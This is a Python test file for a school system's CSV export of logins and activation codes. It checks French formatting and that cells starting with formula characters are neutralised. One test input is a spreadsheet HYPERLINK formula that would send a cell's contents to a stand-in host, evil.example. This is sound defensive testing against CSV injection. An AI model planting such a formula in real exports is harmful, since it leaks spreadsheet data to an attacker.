"""The CSV export of logins and codes: what a French spreadsheet opens, and nothing it runs."""

import csv
import io

import pytest

from services.credential_dispatch.exports import ExportRow, credentials_csv, safe_cell

HEADER = ["Nom", "Prénom", "Profil", "Classes", "Identifiant", "Code d'activation", "État"]


def row(**overrides) -> ExportRow:
    values = {
        "last_name": "N'Diaye",
        "first_name": "Jean-Noël",
        "profile": "teacher",
        "classes": ("CM1", "CM2"),
        "login": "jeannoel.ndiaye",
        "activation_code": "abcd3456",
        "activated": False,
    }
    return ExportRow(**{**values, **overrides})


def read(data: bytes) -> list[list[str]]:
    """The cells as a spreadsheet (or csv.reader) sees them."""
    assert data.startswith(b"\xef\xbb\xbf")
    text = data[3:].decode("utf-8")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))


def test_bom_separator_crlf_and_french_header():
    data = credentials_csv([row()])
    assert data.startswith("\ufeff".encode())
    assert data.decode("utf-8-sig").startswith(
        "Nom;Prénom;Profil;Classes;Identifiant;Code d'activation;État\r\n"
    )
    assert data.count(b"\r\n") == 2 and b"\n" not in data.replace(b"\r\n", b"")
    assert read(data) == [
        HEADER,
        [
            "N'Diaye",
            "Jean-Noël",
            "Enseignant·e",
            "CM1, CM2",
            "jeannoel.ndiaye",
            "abcd3456",
            "À activer",
        ],
    ]


def test_profiles_in_french():
    profiles = ["administrator", "teacher", "personnel", "student", "relative"]
    rows = read(credentials_csv([row(profile=p) for p in profiles]))
    assert [r[2] for r in rows[1:]] == [
        "Administrateur·rice",
        "Enseignant·e",
        "Personnel",
        "Élève",
        "Parent",
    ]


def test_activated_account_has_no_code():
    rows = read(credentials_csv([row(activated=True), row(activation_code=None)]))
    assert rows[1][5:] == ["", "Compte activé"]
    assert rows[2][5:] == ["", "Code à renouveler"]
    assert "abcd3456" not in credentials_csv([row(activated=True)]).decode("utf-8-sig")


@pytest.mark.parametrize(
    ("typed", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+33 6 12 34 56 78", "'+33 6 12 34 56 78"),
        ("-2", "'-2"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\tTab", "'\tTab"),
        ("\r=1+1", "'\r=1+1"),
        (
            '=HYPERLINK("http://evil.example/?"&A1;"clic")',
            '\'=HYPERLINK("http://evil.example/?"&A1;"clic")',
        ),
        ("＝1+1", "'＝1+1"),
        ("Dupont=Durand", "Dupont=Durand"),  # only the first character matters
        ("Jean-Marie", "Jean-Marie"),
        ("", ""),
    ],
)
def test_formulas_are_neutralised(typed, cell):
    assert safe_cell(typed) == cell
    rows = read(credentials_csv([row(last_name=typed, first_name=typed, classes=(typed,))]))
    assert rows[1][0] == rows[1][1] == rows[1][3] == cell


def test_every_column_is_protected():
    hostile = row(
        last_name="=A1",
        first_name="+A1",
        profile="-A1",
        classes=("@A1", "CM1"),
        login="=login",
        activation_code="=code",
    )
    cells = read(credentials_csv([hostile]))[1]
    assert cells[:6] == ["'=A1", "'+A1", "'-A1", "'@A1, CM1", "'=login", "'=code"]


def test_separators_quotes_and_line_breaks_round_trip():
    tricky = row(
        last_name='Le "Grand"; Dupont',
        first_name="Zoé;\r\nMarie",
        classes=('CM1 "A"', "CE2; B"),
    )
    data = credentials_csv([tricky, row()])
    text = data.decode("utf-8-sig")
    assert '"Le ""Grand""; Dupont"' in text
    rows = read(data)
    assert len(rows) == 3
    assert rows[1][:4] == ['Le "Grand"; Dupont', "Zoé;\r\nMarie", "Enseignant·e", 'CM1 "A", CE2; B']
    assert rows[2][0] == "N'Diaye"


def test_empty_export_is_just_the_header():
    assert read(credentials_csv([])) == [HEADER]
